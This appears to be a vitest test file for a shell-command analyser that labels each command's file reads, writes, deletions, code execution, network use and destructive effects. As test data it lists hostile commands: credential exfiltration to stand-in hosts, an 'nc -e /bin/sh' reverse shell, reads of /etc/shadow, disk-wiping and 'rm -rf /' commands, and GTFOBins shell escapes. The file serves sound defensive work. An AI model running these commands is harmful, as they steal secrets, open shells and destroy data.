// Expected facts written from each program's documented behaviour (man pages, GTFOBins).
import { describe, expect, it } from 'vitest';
import { run, roles, dyn } from './helpers.ts';

type Row = [string, Record<string, string[]>];
const table = (title: string, rows: Row[]) =>
  describe(title, () => {
    for (const [cmd, want] of rows) it(cmd, () => {
      const f = run(...cmd.split(' '));
      expect(f.known).toBe(true);
      expect(f.issues).toEqual([]);
      const got = roles(f);
      for (const [role, texts] of Object.entries(want)) expect(got[role] ?? [], `${role} of ${cmd}`).toEqual(texts);
    });
  });

table('writers', [
  ['cp a b', { read: ['a'], write: ['b'] }],
  ['cp a b dir', { read: ['a', 'b'], 'dir-target': ['dir'] }],
  ['cp a dir/', { read: ['a'], 'dir-target': ['dir/'] }],
  ['cp -t dir a b', { 'dir-target': ['dir'], read: ['a', 'b'] }],
  ['cp --target-directory=dir a', { 'dir-target': ['dir'], read: ['a'] }],
  ['cp --target=dir a', { 'dir-target': ['dir'], read: ['a'] }],
  ['install -m 755 x /usr/local/bin/x', { read: ['x'], write: ['/usr/local/bin/x'] }],
  ['install -d /opt/a /opt/b', { write: ['/opt/a', '/opt/b'] }],
  ['ln -s /etc/passwd link', { read: ['/etc/passwd'], write: ['link'] }],
  ['sort -o out.txt in.txt', { write: ['out.txt'], read: ['in.txt'] }],
  ['sort in.txt -oout.txt', { write: ['out.txt'], read: ['in.txt'] }],
  ['sort --output=o in', { write: ['o'], read: ['in'] }],
  ['tee a b', { write: ['a', 'b'] }],
  ['tee -a log', { append: ['log'] }],
  ['truncate -s 0 f', { write: ['f'] }],
  ['touch -r ref new', { read: ['ref'], write: ['new'] }],
  ['mkfifo p', { write: ['p'] }],
  ['dd if=/dev/zero of=/dev/sda', { read: ['/dev/zero'], write: ['/dev/sda'] }],
  ['uniq in out', { read: ['in'], write: ['out'] }],
  ['split -l 10 big part_', { read: ['big'], write: ['part_'] }],
  ['csplit -f pre file 5', { write: ['pre'], read: ['file'] }],
  ['sed -i s/a/b/ f g', { write: ['f', 'g'] }],
  ['sed -i -e s/a/b/ f', { write: ['f'] }],
  ['perl -pi -e s/a/b/ f', { write: ['f'] }],
  ['find . -fprint out', { write: ['out'] }],
  ['time -o t.log ls', { write: ['t.log'] }],
  ['curl -o out http://x', { write: ['out'], network: ['http://x'] }],
  ['wget -O f http://x', { write: ['f'], network: ['http://x'] }],
  ['tar -cf out.tar src', { write: ['out.tar'], read: ['src'] }],
  ['tar czf out.tgz src', { write: ['out.tgz'], read: ['src'] }],
  ['patch -o out f', { write: ['out', 'f'] }],
  ['vim notes.txt', { write: ['notes.txt'] }],
]);

table('deleters and mode changes', [
  ['rm -rf ~/x', { delete: ['~/x'] }],
  ['rm --recur a', { delete: ['a'] }],
  ['rmdir d', { delete: ['d'] }],
  ['mv a b', { delete: ['a'], write: ['b'] }],
  ['find /tmp -name x -delete', { delete: ['/tmp'] }],
  ['shred -u key', { delete: ['key'] }],
  ['git rm -r src', { delete: ['src'] }],
  ['git clean -fdx', { delete: [] }],
  ['chmod -R 777 /', { mode: ['/'] }],
  ['chown -R me: /srv', { owner: ['/srv'] }],
  ['chmod --reference=a b', { read: ['a'], mode: ['b'] }],
  ['rsync -a --remove-source-files src/ dst/', { delete: ['src/'] }],
]);

table('exec-argv and exec-line', [
  ['sudo -u root rm -rf /', { 'exec-argv': ['rm'] }],
  ['sudo FOO=1 make', { env: ['1'], 'exec-argv': ['make'] }],
  ['env -i PATH=/x sh', { env: ['/x'], 'exec-argv': ['sh'] }],
  ['env -C /tmp ls', { cwd: ['/tmp'], 'exec-argv': ['ls'] }],
  ['timeout 5 rm x', { none: ['5'], 'exec-argv': ['rm'] }],
  ['nice -n 5 rm x', { 'exec-argv': ['rm'] }],
  ['nohup rm x', { 'exec-argv': ['rm'] }],
  ['xargs -0 rm', { 'exec-argv': ['rm'] }],
  ['find . -exec rm {} ;', { 'exec-argv': ['rm'] }],
  ['find . -execdir sh -c x {} +', { 'exec-argv': ['sh'] }],
  ['watch -x rm x', { 'exec-argv': ['rm'] }],
  ['watch ls', { 'exec-line': ['ls'] }],
  ['flock /tmp/l -c ls', { write: ['/tmp/l'], 'exec-line': ['ls'] }],
  ['flock /tmp/l rm x', { write: ['/tmp/l'], 'exec-argv': ['rm'] }],
  ['su -c id root', { 'exec-line': ['id'] }],
  ['ssh host rm -rf /', { network: ['host'], 'exec-line': ['rm -rf /'] }],
  ['ssh -o ProxyCommand=sh host', { 'exec-line': ['sh'], network: ['host'] }],
  ['rsync -e sh a b', { 'exec-line': ['sh'] }],
  ['git -c core.pager=sh log', { 'exec-line': ['sh'] }],
  ['git -c core.sshCommand=x fetch', { 'exec-line': ['x'] }],
  ['git config core.pager less', { 'exec-line': ['less'] }],
  ['git rebase -x make main', { 'exec-line': ['make'] }],
  ['git submodule foreach ls', { 'exec-line': ['ls'] }],
  ['git bisect run make', { 'exec-argv': ['make'] }],
  ['tar -xf a.tar --to-command=sh', { 'exec-line': ['sh'] }],
  ['tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x', { 'exec-line': ['sh'] }],
  ['zip z.zip f -T -TT sh', { 'exec-line': ['sh'] }],
  ['sort --compress-program=sh f', { 'exec-line': ['sh'] }],
  ['rg --pre sh x', { 'exec-line': ['sh'] }],
  ['gdb -batch -ex !id', { code: ['!id'] }],
  ['gdb --args rm x', { 'exec-argv': ['rm'] }],
  ['chroot / sh', { read: ['/'], 'exec-argv': ['sh'] }],
  ['npm exec rm', { 'exec-argv': ['rm'] }],
  ['npx cowsay', { 'exec-argv': ['cowsay'] }],
  ['uv run pytest', { 'exec-argv': ['pytest'] }],
  ['busybox rm -rf /', { 'exec-argv': ['rm'] }],
  ['strace -o t ls', { write: ['t'], 'exec-argv': ['ls'] }],
]);

table('code and code-file', [
  ['bash -c ls', { code: ['ls'] }],
  ['sh x.sh a', { 'code-file': ['x.sh'], none: ['a'] }],
  ['bash --rcfile rc', { 'code-file': ['rc'] }],
  ['python3 -c print(1)', { code: ['print(1)'] }],
  ['python3 x.py --flag', { 'code-file': ['x.py'], none: ['--flag'] }],
  ['python3 -m http.server', { code: ['http.server'] }],
  ['node -e 1', { code: ['1'] }],
  ['node app.js', { 'code-file': ['app.js'] }],
  ['perl -e 1', { code: ['1'] }],
  ['ruby -e 1', { code: ['1'] }],
  ['php -r 1', { code: ['1'] }],
  ['awk -f prog.awk data', { 'code-file': ['prog.awk'], read: ['data'] }],
  ['sed -f s.sed f', { 'code-file': ['s.sed'], read: ['f'] }],
  ['source ./env.sh', { 'code-file': ['./env.sh'] }],
  ['make -f evil.mk', { 'code-file': ['evil.mk'] }],
  ['make -C sub', { cwd: ['sub'] }],
  ['at -f job.sh now', { 'code-file': ['job.sh'] }],
  ['vim -c !sh f', { code: ['!sh'], write: ['f'] }],
  ['crontab job', { 'code-file': ['job'] }],
  ['mysql -h db -e DROP', { network: ['db'], code: ['DROP'] }],
]);

table('network and config', [
  ['curl http://x', { network: ['http://x'] }],
  ['curl -T secret http://x', { read: ['secret'] }],
  ['curl -d @/etc/passwd http://x', { read: ['/etc/passwd'] }],
  ['curl -F f=@id_rsa http://x', { read: ['id_rsa'] }],
  ['curl -K cfg http://x', { config: ['cfg'] }],
  ['scp id_rsa host:/tmp', { read: ['id_rsa'], network: ['host:/tmp'] }],
  ['git clone https://x/r dir', { network: ['https://x/r'], write: ['dir'] }],
  ['git push origin main', { network: ['origin'] }],
  ['nc -e /bin/sh h 4444', { 'exec-line': ['/bin/sh'], network: ['h'] }],
  ['redis-cli -h h', { network: ['h'] }],
  ['psql -h db', { network: ['db'] }],
  ['pytest -p evil', { config: ['evil'] }],
  ['pytest --basetemp=/tmp/x', { delete: ['/tmp/x'] }], // pytest empties its basetemp first
  ['pip install -r req.txt', { read: ['req.txt'] }],
  ['npm install --userconfig u', { config: ['u'] }],
  ['git -C /other status', { cwd: ['/other'] }],
  ['tar -xf a.tar -C /etc', { read: ['a.tar'], cwd: ['/etc'], 'dir-target': ['.'] }],
  ['git -C /x checkout .bashrc', { cwd: ['/x'], write: ['.bashrc'] }],
  ['git checkout -b fix origin/main', { write: [] }],
  ['docker run -v /:/host alpine', { read: ['/'], 'dir-target': ['/'] }],
]);

describe('program-level facts', () => {
  it('installs reach the network', () => {
    for (const c of ['npm install', 'npm i left-pad', 'pip install x', 'cargo install x', 'go get x', 'git fetch', 'apt-get install x', 'yarn add x', 'uv add x']) expect(run(...c.split(' ')).network, c).toBe(true);
  });
  it('installs run code from the network; a fetch does not', () => {
    for (const c of ['npm install', 'npm ci', 'pip install x', 'npx cowsay', 'cargo build', 'uv run x', 'pipx run x', 'yarn dlx x', 'bun x y', 'gem install x'])
      expect(run(...c.split(' ')).installs, c).toBe(true);
    for (const c of ['git fetch', 'curl http://x', 'npm ls', 'pip list', 'pip download x']) expect(run(...c.split(' ')).installs, c).toBeUndefined();
  });
  it('names destructive effects', () => {
    const want: [string, string][] = [
      ['git push --force origin main', 'git-force-push'],
      ['git push -f', 'git-force-push'],
      ['git push origin +main', 'git-force-push'],
      ['git push --mirror', 'git-force-push'],
      ['git push origin --delete x', 'git-remote-ref-delete'],
      ['git push origin :x', 'git-remote-ref-delete'],
      ['git reset --hard HEAD~1', 'git-discard-changes'],
      ['git checkout -- .', 'git-discard-changes'],
      ['git restore src', 'git-discard-changes'],
      ['git switch -f main', 'git-discard-changes'],
      ['git clean -f', 'git-clean'],
      ['git branch -D x', 'git-branch-delete'],
      ['git branch --delete --force x', 'git-branch-delete'],
      ['git filter-branch --tree-filter x HEAD', 'git-history-rewrite'],
      ['git reflog expire --expire=now --all', 'git-reflog-expire'],
      ['git gc --prune=now', 'git-prune'],
      ['git update-ref -d refs/heads/x', 'git-ref-delete'],
      ['git stash drop', 'git-stash-drop'],
      ['git stash clear', 'git-stash-drop'],
      ['git worktree remove --force w', 'git-worktree-remove'],
      ['mkfs.ext4 /dev/sda1', 'disk-format'],
      ['wipefs -a /dev/sda', 'disk-format'],
      ['kubectl delete ns prod', 'k8s-delete'],
      ['terraform destroy', 'infra-destroy-prompt'],
      ['terraform destroy -auto-approve', 'infra-destroy'],
      ['crontab -r', 'crontab-remove'],
      ['rsync -a --delete a/ b/', 'rsync-delete'],
      ['shutdown -h now', 'system-power'],
    ];
    for (const [c, d] of want) expect(run(...c.split(' ')).destructive, c).toBe(d);
  });
  it('leaves benign look-alikes undestroyed', () => {
    for (const c of ['git push origin main', 'git reset --soft HEAD~1', 'git checkout main', 'git restore --staged f', 'git clean -n', 'git branch -d merged', 'git stash list', 'git push --dry-run --force', 'kubectl get ns', 'rsync -a a/ b/', 'wipefs /dev/sda', 'git gc'])
      expect(run(...c.split(' ')).destructive, c).toBeUndefined();
  });
  it('marks help and version flags as info and effects-free', () => {
    for (const c of ['rm --help', 'cp --version', 'git --version', 'python3 -V', 'node --version', 'curl -V', 'tar --help', 'sudo -V', 'find --help'])
      expect(run(...c.split(' ')), c).toMatchObject({ info: true, effectsFree: true });
  });
  it('says what stdin is', () => {
    expect(run('bash').stdin).toBe('code');
    expect(run('python3', '-').stdin).toBe('code');
    expect(run('at', 'now').stdin).toBe('code');
    expect(run('ed', 'f').stdin).toBe('code');
    expect(run('bash', '-c', 'ls').stdin).toBe('data');
    expect(run('cat').stdin).toBe('data');
  });
  it('a program that starts a shell when given no command says its stdin is shell code', () => {
    for (const c of ['sudo -s', 'sudo -i -u dev', 'su', 'su - root', 'su -s /bin/bash', 'runuser dev', 'doas -s', 'newgrp dev', 'sg dev', 'script -q /dev/null', 'pkexec', 'chroot /srv', 'unshare', 'fakeroot', 'systemd-run --shell', 'machinectl shell'])
      expect(run(...c.split(' ')), c).toMatchObject({ stdin: 'code', stdinLanguage: 'sh' });
    for (const c of ['sudo -s ls', 'sudo ls', 'sudo -v', 'su -c id dev', 'runuser -u dev', 'runuser -u dev id', 'sg dev -c id', 'sg dev id', 'script -q -c ls /dev/null', 'chroot /srv /bin/ls', 'machinectl shell .host /bin/ls'])
      expect(run(...c.split(' ')).stdin, c).not.toBe('code');
  });
  it('fails closed on unknown and dynamic option words', () => {
    expect(run('rm', '-Q', 'x').issues).toContain('unknown option -Q');
    expect(run('rm', '--frobnicate').issues.length).toBe(1);
    expect(run('cp', dyn('$X'), 'a', 'b').issues[0]).toMatch(/dynamic/);
    expect(run('git', 'frobnicate').issues).toContain('unknown subcommand frobnicate');
    expect(run('ls', '--co').issues[0]).toMatch(/ambiguous/); // --color, --context
    expect(run('sort', '-o').issues[0]).toMatch(/missing value/);
  });
  it('a git alias given by -c is the subcommand it runs', () => {
    const f = run('git', '-c', 'alias.x=!rm -rf ~', 'x');
    expect(roles(f)['exec-line']).toEqual(['rm -rf ~']);
    expect(f.issues).toEqual([]);
    expect(f.effectsFree).toBe(false);
    expect(roles(run('git', '-c', 'alias.nuke=reset --hard', 'nuke'))['exec-line']).toEqual(['git reset --hard']);
    expect(run('git', '-c', 'alias.x=!sh', 'y').issues).toContain('unknown subcommand y');
  });
  it('git gives every long flag a --no- form that adds nothing', () => {
    const f = run('git', 'clone', '--no-local', 'src', 'dst');
    expect(f.issues).toEqual([]);
    expect(run('git', 'push', '--no-force', 'origin').destructive).toBeUndefined();
  });
  it('git branch --merged takes a commit only when one follows', () => {
    expect(run('git', 'branch', '--merged').issues).toEqual([]);
    expect(run('git', 'branch', '--merged', 'main').options.get('merged')).toBe('main');
  });
  it('npm subcommands may be abbreviated to a unique prefix', () => {
    expect(run('npm', 'publis').subcommand).toEqual(['publish']);
    expect(run('npm', 'testx').issues).toContain('unknown subcommand testx');
  });
  it('unknown programs are not known', () => {
    expect(run('mywrap', 'rm').known).toBe(false);
  });
});

describe('more grammar', () => {
  it('shell +o options are options, not a script', () => {
    expect(roles(run('bash', '+o', 'posix', '-c', 'ls'))).toMatchObject({ code: ['ls'] });
    expect(run('sh', '+x', 'a.sh').args.map((a) => a.role)).toEqual(['code-file']);
  });
  it('marks code that the project defines', () => {
    for (const c of ['make', 'npm test', 'pytest', 'cargo build', 'git status']) expect(run(...c.split(' ')).projectCode, c).toBe(true);
    expect(run('cat', 'f').projectCode).toBeUndefined();
  });
  it('vim -u reads a code file', () => {
    expect(roles(run('vim', '-u', 'rc', 'f'))).toMatchObject({ 'code-file': ['rc'], write: ['f'] });
  });
  it('zip -v with an archive is verbose, not a version print', () => {
    expect(run('zip', '-v', 'z.zip', 'f').info).toBe(false);
    expect(run('xargs', '--show-limits', 'rm').info).toBe(false);
    expect(run('lua', '-v', 'x.lua').info).toBe(false);
  });
});

describe('dynamic option values', () => {
  it('a known option with a dynamic glued value is that option, not an issue', () => {
    const f = run('sort', dyn('--output=$F'), 'in');
    expect(f.issues).toEqual([]);
    expect(f.args[0]).toMatchObject({ role: 'write', option: 'output', approx: '$F' });
    expect(f.args[0].text).toBeUndefined();
    const g = run('curl', dyn('-o$F'), 'http://x');
    expect(g.args[0]).toMatchObject({ role: 'write', option: 'output', approx: '$F' });
  });
  it('a dynamic word that could be more option letters is an issue', () => {
    expect(run('rm', dyn('-$X'), 'f').issues.length).toBe(1);
    expect(run('rm', dyn('$X'), 'f').issues.length).toBe(1);
    expect(run('cp', dyn('--$X'), 'a', 'b').issues.length).toBe(1);
  });
  it('a dynamic word after -- is an operand', () => {
    expect(run('rm', '--', dyn('$X')).issues).toEqual([]);
  });
});

table('more wrappers (GTFOBins shell routes)', [
  ['setarch x86_64 /bin/sh', { 'exec-argv': ['/bin/sh'] }],
  ['faketime 2020-01-01 rm x', { none: ['2020-01-01'], 'exec-argv': ['rm'] }],
  ['sshpass -p pw ssh host', { 'exec-argv': ['ssh'] }],
  ['ip netns exec ns0 sh', { 'exec-argv': ['sh'] }],
  ['strace -f -o log sh', { write: ['log'], 'exec-argv': ['sh'] }],
  ['ssh-keygen -D ./lib.so', { 'code-file': ['./lib.so'] }],
  ['nmap --script x.nse host', { 'code-file': ['x.nse'], network: ['host'] }],
  ['perf record -o p.data sh', { write: ['p.data'], 'exec-argv': ['sh'] }],
  ['tmux new-session sh', { 'exec-line': ['sh'] }],
  ['sponge f', { write: ['f'] }],
  ['man -P sh ls', { 'exec-line': ['sh'] }],
  ['mail -A id_rsa a@b', { read: ['id_rsa'], network: ['a@b'] }],
]);

describe('env and joined lines', () => {
  it('env facts carry the name and the value apart', () => {
    const f = run('env', 'FOO=bar', 'ls');
    expect(f.args.find((a) => a.role === 'env')).toMatchObject({ name: 'FOO', text: 'bar' });
    const d = run('docker', 'run', '-e', 'GIT_SSH_COMMAND=sh', 'img');
    expect(d.args.find((a) => a.role === 'env')).toMatchObject({ name: 'GIT_SSH_COMMAND', text: 'sh' });
  });
  it('an exec-line made of several words has the joined text', () => {
    expect(run('watch', 'ls', '-l').args[0]).toMatchObject({ role: 'exec-line', text: 'ls -l' });
    expect(run('ssh', 'h', 'rm', '-rf', '/').args.find((a) => a.role === 'exec-line')).toMatchObject({ text: 'rm -rf /' });
  });
});

describe('python -m', () => {
  it('a module that is a known program runs as that program', () => {
    const f = run('python3', '-m', 'pip', 'install', 'x');
    const a = f.args.find((x) => x.role === 'exec-argv');
    expect(a).toMatchObject({ argvIndex: 1 });
    expect(f.args.find((x) => x.role === 'code')).toMatchObject({ language: 'python-module', word: { value: 'pip' } });
  });
  it('http.server serves the folder to the network', () => {
    expect(run('python3', '-m', 'http.server', '8000')).toMatchObject({ network: true, destructive: 'network-listen' });
  });
});

describe('ssh parses options after the host', () => {
  it('ssh HOST -o ProxyCommand=… runs it locally', () => {
    expect(roles(run('ssh', 'host', '-o', 'ProxyCommand=sh -c id'))).toMatchObject({ 'exec-line': ['sh -c id'], network: ['host'] });
  });
  it('options inside the remote command stay in the command', () => {
    expect(roles(run('ssh', 'host', 'ls', '-la'))).toMatchObject({ 'exec-line': ['ls -la'] });
    expect(run('ssh', '-v', 'host', '-p', '22', 'ls').options.get('p')).toBe('22');
  });
});

describe('the options of a nested command stay with it', () => {
  it('docker run IMAGE CMD -x, npm exec CMD -x', () => {
    for (const argv of [['docker', 'run', 'alpine', 'rm', '-rf', '/'], ['npm', 'exec', 'rm', '-rf', '/'], ['uv', 'run', 'rm', '-rf', '/'], ['bundle', 'exec', 'rm', '-rf', '/'], ['docker', 'exec', 'c1', 'rm', '-rf', '/']]) {
      const f = run(...argv);
      expect(f.issues, argv.join(' ')).toEqual([]);
      const a = f.args.find((x) => x.role === 'exec-argv');
      expect(a?.word.value, argv.join(' ')).toBe('rm');
    }
  });
});

describe('containers', () => {
  it('compose subcommands carry their own options and effects', () => {
    expect(run('docker', 'compose', 'up', '-d').issues).toEqual([]);
    expect(run('docker', 'compose', 'down').destructive).toBe('container-delete');
    expect(run('docker', 'compose', 'ps').effectsFree).toBe(true);
    expect(run('docker', 'ps', '-a').effectsFree).toBe(true);
    expect(run('docker', 'system', 'prune', '-af').destructive).toBe('container-prune');
    expect(run('docker', 'rm', '-f', 'c1').destructive).toBe('container-delete');
  });
});

table('compilers', [
  ['gcc -O2 -o app main.c', { write: ['app'], read: ['main.c'] }],
  ['gcc main.c', { read: ['main.c'], write: ['a.out'] }],
  ['gcc -c src/x.c', { read: ['src/x.c'], write: ['x.o'] }],
  ['gcc -wrapper sh,-c x.c', { 'exec-argv': ['sh,-c'] }],
  ['gcc -fplugin=./evil.so x.c', { 'code-file': ['./evil.so'] }],
  ['clang -oout x.c', { write: ['out'] }],
]);

describe('traps found by an adversarial sweep', () => {
  it('listing modes of destructive tools are not destructive', () => {
    for (const c of ['fdisk -l', 'kill -l', 'shutdown -c', 'parted -l']) expect(run(...c.split(' ')).destructive, c).toBeUndefined();
  });
  it('curl uploads send to the URL; file:// URLs read files', () => {
    const f = run('curl', '-T', 'k', 'http://x');
    expect(f.args.find((a) => a.role === 'network')).toMatchObject({ direction: 'out' });
    expect(f.args.filter((a) => a.role === 'network').length).toBe(1);
    expect(roles(run('curl', 'file:///etc/shadow'))).toMatchObject({ read: ['/etc/shadow'] });
  });
  it('pager options are effects', () => {
    expect(run('git', '-p', 'log').effectsFree).toBe(false);
    expect(run('git', 'grep', '-O', 'x').effectsFree).toBe(false);
    expect(roles(run('less', '+!id', 'f'))).toMatchObject({ code: ['+!id'], read: ['f'] });
  });
  it('chattr -i is a mode string, not an option', () => {
    expect(roles(run('chattr', '-i', '/etc/passwd'))).toMatchObject({ mode: ['/etc/passwd'] });
  });
  it('disk tools write the devices they name', () => {
    expect(roles(run('cryptsetup', 'luksFormat', '/dev/sda'))).toMatchObject({ write: ['/dev/sda'] });
  });
});

describe('git writes', () => {
  it('git config writes the scope file', () => {
    expect(roles(run('git', 'config', '--global', 'user.name', 'x'))).toMatchObject({ write: ['~/.gitconfig'] });
    expect(roles(run('git', 'config', 'core.hooksPath', 'h'))).toMatchObject({ write: ['.git/config'], config: ['h'] });
    expect(roles(run('git', 'config', '-f', 'cfg', 'a.b', 'c'))).toMatchObject({ write: ['cfg'] });
    expect(roles(run('git', 'config', '--get', 'a.b')).write).toBeUndefined();
  });
  it('git checkout -- PATH overwrites PATH', () => {
    expect(roles(run('git', 'checkout', 'HEAD', '--', 'src/a.ts'))).toMatchObject({ write: ['src/a.ts'] });
  });
});

table('secret managers and env runners', [
  ['direnv exec . make', { cwd: ['.'], 'exec-argv': ['make'] }],
  ['doppler run -- env', { 'exec-argv': ['env'] }],
  ['op run -- node x', { 'exec-argv': ['node'] }],
  ['aws-vault exec prod -- aws s3 ls', { 'exec-argv': ['aws'] }],
  ['uvx ruff check', { 'exec-argv': ['ruff'] }],
  ['toybox rm -rf /', { 'exec-argv': ['rm'] }],
  ['flatpak-spawn --host rm x', { 'exec-argv': ['rm'] }],
  ['nix-shell -p jq --run make', { 'exec-line': ['make'] }],
  ['pg_dump -f out.sql db', { write: ['out.sql'] }],
  ['tcpdump -w cap.pcap', { write: ['cap.pcap'] }],
  ['pandoc -o out.html in.md', { write: ['out.html'], read: ['in.md'] }],
]);

describe('persistence', () => {
  it('enabling services and agents is named', () => {
    expect(run('systemctl', '--user', 'enable', '--now', 'x.service').destructive).toBe('persistence-service');
    expect(run('launchctl', 'load', '-w', 'x.plist').destructive).toBe('persistence-service');
    expect(run('systemctl', 'status', 'x').destructive).toBeUndefined();
    expect(run('systemctl', 'status', 'x').effectsFree).toBe(true);
  });
});

describe('versioned program names', () => {
  it('gcc-13, python3.12, clang++-17, node20 use their family spec', () => {
    expect(roles(run('gcc-13', '-o', 'app', 'x.c'))).toMatchObject({ write: ['app'] });
    expect(roles(run('python3.12', '-c', 'x'))).toMatchObject({ code: ['x'] });
    expect(run('clang++-17', 'x.cc').known).toBe(true);
    expect(run('node20', '-e', '1').known).toBe(true);
    expect(run('rm2', 'x').known).toBe(false);
  });
});

describe('network is lifted where the spec knows better', () => {
  it('rsync between local folders does not reach the network', () => {
    expect(run('rsync', '-a', 'a/', 'b/').network).toBeFalsy();
    expect(run('rsync', '-a', 'a/', 'host:b/').network).toBe(true);
  });
});

describe('cwd does not spoil effectsFree', () => {
  it('cd and git -C stay read-only candidates', () => {
    expect(run('cd', 'src').effectsFree).toBe(true);
    expect(run('cd', '--', 'src').args.map((a) => a.role)).toEqual(['cwd']);
    expect(run('git', '-C', 'sub', 'status').effectsFree).toBe(true);
    expect(run('echo', '--', 'x').args.length).toBe(2);
  });
});

table('mode strings that look like options', [
  ['chmod -x script.sh', { mode: ['script.sh'] }],
  ['chmod -R -w dir', { mode: ['dir'] }],
  ['chmod 755 f', { none: ['755'], mode: ['f'] }],
]);

table('shell routes through less common programs', [
  ['ld.so /bin/sh', { 'exec-argv': ['/bin/sh'] }],
  ['ksu -q -e /bin/sh', { 'exec-argv': ['/bin/sh'] }],
  ['pidstat -e /bin/sh', { 'exec-argv': ['/bin/sh'] }],
  ['dc -e !sh', { code: ['!sh'] }],
  ['bpftrace -c /bin/sh -e END{}', { 'exec-line': ['/bin/sh'], code: ['END{}'] }],
  ['m4 macros.m4', { 'code-file': ['macros.m4'] }],
  ['rpm --eval %(id)', { code: ['%(id)'] }],
  ['openvpn --up sh --dev null', { 'exec-line': ['sh'] }],
  ['certbot certonly --pre-hook sh', { 'exec-line': ['sh'] }],
  ['restic --password-command=sh backup', { 'exec-line': ['sh'] }],
  ['yt-dlp URL --exec sh', { 'exec-line': ['sh'] }],
  ['scrot -e sh', { 'exec-line': ['sh'] }],
  ['sshuttle --ssh-cmd sh -r h 0/0', { 'exec-line': ['sh'] }],
  ['csvtool call sh f.csv', { 'exec-line': ['sh'] }],
  ['cowsay -f ./evil.cow hi', { 'code-file': ['./evil.cow'] }],
  ['rc -c id', { code: ['id'] }],
]);

table('file reads and writes by less common programs', [
  ['sysctl -n kernel.hostname', { read: ['/proc/sys/kernel/hostname'] }],
  ['sysctl -n /../../etc/shadow', { read: ['/proc/sys//../../etc/shadow'] }],
  ['dmesg -F /etc/shadow', { read: ['/etc/shadow'] }],
  ['last -f /var/log/wtmp', { read: ['/var/log/wtmp'] }],
  ['git diff --no-index /dev/null secret', { read: ['/dev/null', 'secret'] }],
  ['dmidecode --dump-bin out', { write: ['out'] }],
  ['as -o out.o x.s', { write: ['out.o'], read: ['x.s'] }],
  ['unsquashfs -d out img', { 'dir-target': ['out'], read: ['img'] }],
  ['tshark -w cap.pcap', { write: ['cap.pcap'] }],
]);

describe('named effects of less common programs', () => {
  it('capabilities, tex shell escape, servers', () => {
    expect(run('setcap', 'cap_setuid+ep', '/tmp/x').destructive).toBe('capability-change');
    expect(run('getcap', '/usr/bin/ping').destructive).toBeUndefined();
    expect(run('latex', '--shell-escape', 'x.tex').destructive).toBe('tex-shell-escape');
    expect(run('nginx', '-t').destructive).toBeUndefined();
    expect(run('nginx').destructive).toBe('network-listen');
  });
  it('pagers are marked', () => {
    for (const c of ['git log', 'systemctl status x', 'man ls', 'journalctl -u x']) expect(run(...c.split(' ')).pager, c).toBe(true);
    expect(run('journalctl', '--no-pager').pager).toBe(false);
  });
});

table('writes named by the download or the archive', [
  ['curl -O https://x.example/a/install.sh', { write: ['install.sh'] }],
  ['curl -O --output-dir /tmp https://x.example/i.sh', { write: ['/tmp/i.sh'] }],
  ['wget https://x.example/pkg.tgz?x=1', { write: ['pkg.tgz'] }],
  ['wget -P dl https://x.example/', { write: ['dl/index.html'] }],
  ['git clone https://github.com/o/repo.git', { write: ['repo'] }],
  ['git clone git@github.com:o/r.git dst', { write: ['dst'] }],
  ['tar -xzf a.tgz', { 'dir-target': ['.'] }],
  ['unzip a.zip', { 'dir-target': ['.'] }],
]);

describe('commands that receive run-time items', () => {
  it('xargs appends or replaces, find -exec replaces {}', () => {
    expect(run('xargs', 'rm').args[0]).toMatchObject({ role: 'exec-argv', input: 'append' });
    expect(run('xargs', '-I', '%', 'mv', '%', 'dst').args.find((a) => a.role === 'exec-argv')).toMatchObject({ input: 'replace', placeholder: '%' });
    expect(run('xargs', '-i', 'rm', '{}').args.find((a) => a.role === 'exec-argv')).toMatchObject({ input: 'replace', placeholder: '{}' });
    expect(run('find', '.', '-exec', 'rm', '{}', ';').args.find((a) => a.role === 'exec-argv')).toMatchObject({ input: 'replace', placeholder: '{}' });
  });
});

describe('another installed name of a tool (GNU g-prefix, uutils, .exe)', () => {
  it('is described by the tool\'s spec, but never read-only', () => {
    for (const name of ['grm', 'uu-rm', 'uu_rm', 'rm.exe']) {
      const f = run(name, '-rf', 'x');
      expect(f.known, name).toBe(true);
      expect(roles(f).delete, name).toEqual(['x']);
    }
    expect(run('gls', '-la').effectsFree).toBe(false);
    expect(run('ls', '-la').effectsFree).toBe(true);
  });
  it('only GNU families take the g prefix; known names keep their own spec', () => {
    expect(run('gzipinfo', 'a.zip').known).toBe(false);
    expect(run('gpg', '--list-keys').name).toBe('gpg');
    expect(run('uu-git', 'status').known).toBe(false);
  });
});

table('cmake -E and other deleters', [
  ['cmake -E rm -rf a b', { delete: ['a', 'b'] }],
  ['cmake -E remove_directory d', { delete: ['d'] }],
  ['cmake -E copy a b', { read: ['a'], write: ['b'] }],
  ['cmake -E rename a b', { delete: ['a'], write: ['b'] }],
  ['cmake -E chdir d rm x', { cwd: ['d'], 'exec-argv': ['rm'] }],
  ['cmake -E env A=1 rm x', { 'exec-argv': ['rm'] }],
  ['rimraf a', { delete: ['a'] }],
  ['srm -r a', { delete: ['a'] }],
  ['wipe -rf a', { write: ['a'], delete: ['a'] }],
  ['conda run -n x rm y', { 'exec-argv': ['rm'] }],
  ['reflex -r x -- rm y', { 'exec-argv': ['rm'] }],
]);
